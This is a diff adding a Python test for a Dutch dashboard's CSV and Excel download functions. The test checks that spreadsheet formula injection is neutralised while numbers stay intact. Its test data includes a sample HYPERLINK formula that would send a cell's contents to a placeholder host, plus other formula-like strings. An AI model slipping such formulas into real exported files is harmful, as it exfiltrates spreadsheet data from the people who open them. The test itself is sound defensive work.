@@ -278,3 +278,26 @@ def test_a_slides_table_is_hidden_from_sight_but_not_from_screen_readers_and_is_
     assert html_tabellen(verborgen)[0]["rijen"] == html_tabellen(html)[0]["rijen"] == [["Zorg", "900"]]
     assert 'class="sr-only"' in verborgen and "tabindex" not in verborgen
     assert ".sr-only" in components.PAGINA_CSS   # the class is defined on every page
+
+
+def test_downloads_neutralise_formulas_but_keep_numbers_and_dutch_number_texts():
+    """OWASP CSV injection: a project name like =HYPERLINK(...) must never become a live formula."""
+    import io
+
+    import openpyxl
+    import pandas as pd
+
+    from dashboard.kern import components
+
+    df = pd.DataFrame({"Project": ['=HYPERLINK("https://x.example/?d="&A1,"Zorgstart")', "@SUM(A1)", "+31 6",
+                                   "-1+1", "Zorgstart"],
+                       "Mutatie": ["-4%", "-1.900", "+2,5", "12", "—"],
+                       "Aantal": [1, -2, 3, 4, 5]})
+    csv = components.csv_bytes(df, "bron", "2025").decode("utf-8-sig")
+    assert "'=HYPERLINK" in csv and "\n'@SUM(A1)" in csv and "\n'+31 6" in csv and "\n'-1+1" in csv
+    assert ";-4%;" in csv and ";-1.900;" in csv and ";+2,5;" in csv and ";-2" in csv
+    blad = openpyxl.load_workbook(io.BytesIO(components.excel_bytes(df, "bron", "2025")))["gegevens"]
+    cellen = [[c.value for c in rij] for rij in blad.iter_rows(min_row=2, max_col=3)]
+    assert cellen[0][0].startswith("'=HYPERLINK") and blad.cell(2, 1).data_type == "s"
+    assert [r[2] for r in cellen] == [1, -2, 3, 4, 5]          # numbers stay numbers
+    assert not any(str(v).startswith("=") for r in cellen for v in r)
